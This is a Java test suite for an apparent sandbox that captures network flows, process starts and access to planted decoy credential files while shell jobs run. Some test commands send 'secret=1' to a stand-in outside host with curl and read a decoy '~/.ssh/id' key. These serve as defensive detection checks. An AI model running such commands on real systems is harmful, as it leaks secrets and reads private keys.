package dev.assize.sandbox;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpServer;
import dev.assize.sandbox.capture.flow.Flow;
import dev.assize.sandbox.capture.flow.FlowLog;
import dev.assize.sandbox.job.Command;
import dev.assize.sandbox.job.Content;
import dev.assize.sandbox.job.JobResult;
import dev.assize.sandbox.job.Observations;
import dev.assize.sandbox.job.PlantedFile;
import io.airlift.compress.v3.zstd.ZstdOutputStream;
import java.io.ByteArrayOutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.time.Duration;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

@Tag("sandbox")
class CellTest {

  private static HttpServer outside;
  private static Sandbox sandbox;

  @BeforeAll
  static void open() throws Exception {
    outside = HttpServer.create(new InetSocketAddress(InetAddress.ofLiteral("127.0.0.1"), 0), 0);
    outside.createContext(
        "/",
        exchange -> {
          try (exchange) {
            byte[] answer =
                ("outside heard " + exchange.getRequestURI()).getBytes(StandardCharsets.UTF_8);
            exchange.sendResponseHeaders(200, answer.length);
            exchange.getResponseBody().write(answer);
          }
        });
    outside.start();
    URI target = URI.create("http://127.0.0.1:" + outside.getAddress().getPort());
    sandbox =
        Sandbox.open(
            new Settings(
                List.of(),
                List.of(
                    new Forward("model", "llm.corp.example", 80, false, target),
                    new Forward("world", "tools.corp.example", 443, true, target))));
  }

  @AfterAll
  static void close() {
    sandbox.close();
    outside.stop(0);
  }

  private static Command shell(String script) {
    return new Command(
        List.of("bash", "-c", script), Map.of(), "work", Duration.ofSeconds(30), List.of());
  }

  private static List<Flow> flows(Cell cell) {
    return FlowLog.read(cell.captured().resolve("flows.jsonl"));
  }

  @Test
  void commandsShareTheirHomeAndNothingElse() throws Exception {
    try (Cell cell =
        sandbox.open(
            Jobs.shell(
                    "echo kept >note; echo kept >/tmp/note; sleep 60 &"
                        + " until grep -q sleep /proc/$!/comm; do :; done")
                .build())) {
      JobResult second = cell.run(shell("cat note; pgrep sleep || echo nobody"));

      assertThat(cell.first().gone().leftRunning()).contains("sleep");
      assertThat(second.stdout().text()).isEqualTo("kept\nnobody\n");
    }
  }

  @Test
  void whatIsForwardedIsAnsweredFromOutsideAndEverythingElseByUs() throws Exception {
    try (Cell cell =
        sandbox.open(
            Jobs.shell(
                    "curl -sS http://llm.corp.example/a; echo; curl -sS https://tools.corp.example/b; echo;"
                        + " curl -sS -d secret=1 https://elsewhere.example/c")
                .build())) {
      Observations seen = cell.end();

      assertThat(cell.first().stdout().text()).startsWith("outside heard /a\noutside heard /b\n");
      assertThat(cell.first().stderr().text()).isEmpty();
      assertThat(flows(cell))
          .filteredOn(Flow.Exchange.class::isInstance)
          .map(Flow.Exchange.class::cast)
          .extracting(Flow.Exchange::host, Flow.Exchange::route)
          .containsExactly(
              org.assertj.core.groups.Tuple.tuple("llm.corp.example", "model"),
              org.assertj.core.groups.Tuple.tuple("tools.corp.example", "world"),
              org.assertj.core.groups.Tuple.tuple("elsewhere.example", null));
      Flow.Exchange last =
          flows(cell).stream()
              .filter(Flow.Exchange.class::isInstance)
              .map(Flow.Exchange.class::cast)
              .reduce((a, b) -> b)
              .orElseThrow();
      assertThat(cell.captured().resolve(Objects.requireNonNull(last.requestBody().file())))
          .hasContent("secret=1");
      assertThat(seen.gaps()).noneMatch(gap -> gap.startsWith("network: "));
    }
  }

  @Test
  void aTouchedDecoyIsNoticedAndAnUntouchedOneIsNot() throws Exception {
    PlantedFile read =
        new PlantedFile(".ssh/id", Content.of("key".getBytes(StandardCharsets.UTF_8)), 0600, null);
    PlantedFile spared =
        new PlantedFile(".pgpass", Content.of("pw".getBytes(StandardCharsets.UTF_8)), 0600, null);
    try (Cell cell = sandbox.open(Jobs.shell("cat ~/.ssh/id").decoy(read).decoy(spared).build())) {
      Observations seen = cell.end();

      assertThat(seen.findings().get("files").path("decoys"))
          .anySatisfy(decoy -> {
            assertThat(decoy.path("path").asString()).isEqualTo(".ssh/id");
            assertThat(decoy.path("actions").has("READ")).isTrue();
          })
          .anySatisfy(decoy -> {
            assertThat(decoy.path("path").asString()).isEqualTo(".pgpass");
            assertThat(decoy.path("actions").isEmpty()).isTrue();
          });
      assertThat(seen.gaps()).noneMatch(gap -> gap.startsWith("decoys: "));
    }
  }

  @Test
  void programsThatACommandStartsAreRecorded() throws Exception {
    try (Cell cell = sandbox.open(Jobs.shell("uname -a >/dev/null; python3 -c pass").build())) {
      Observations seen = cell.end();

      assertThat(seen.findings().get("processes").path("starts").findValuesAsString("executable"))
          .anyMatch(path -> path.endsWith("/uname"))
          .anyMatch(path -> path.endsWith("/python3"));
      assertThat(seen.gaps()).noneMatch(gap -> gap.startsWith("processes: "));
    }
  }

  /** The warden runs as a user who reads little, so each library must have been shown to it. */
  @Test
  void newerProtocolsAndAllContentCodingsAreRead() throws Exception {
    byte[] brotli = HexFormat.of().parseHex("0b028068656c6c6f03");
    ByteArrayOutputStream zstandard = new ByteArrayOutputStream();
    try (ZstdOutputStream out = new ZstdOutputStream(zstandard)) {
      out.write("hello".getBytes(StandardCharsets.UTF_8));
    }
    try (Cell cell =
        sandbox.open(
            Jobs.shell(
                    "for coding in br zstd; do curl -sS --http2 -H \"Content-Encoding: $coding\""
                        + " --data-binary @../$coding https://$coding.example/; done")
                .file("br", Content.of(brotli))
                .file("zstd", Content.of(zstandard.toByteArray()))
                .build())) {
      Observations seen = cell.end();

      assertThat(cell.first().stderr().text()).isEmpty();
      List<Flow.Exchange> exchanges =
          flows(cell).stream()
              .filter(Flow.Exchange.class::isInstance)
              .map(Flow.Exchange.class::cast)
              .toList();
      assertThat(exchanges).hasSize(2).allMatch(exchange -> exchange.protocol().equals("h2"));
      for (Flow.Exchange exchange : exchanges) {
        assertThat(cell.captured().resolve(exchange.requestBody().readable().orElseThrow()))
            .hasContent("hello");
      }
      assertThat(seen.gaps()).noneMatch(gap -> gap.startsWith("network: "));
    }
  }

  @Test
  void nothingOfWhatWasCapturedOutlivesTheSandbox() throws Exception {
    java.nio.file.Path captured;
    try (Sandbox other = Sandbox.open(Settings.DEFAULT);
        Cell cell = other.open(Jobs.shell("curl -s http://a.example").build())) {
      cell.end();
      captured = cell.captured();
      assertThat(captured.resolve("flows.jsonl")).exists();
    }
    assertThat(Files.exists(captured)).isFalse();
  }
}
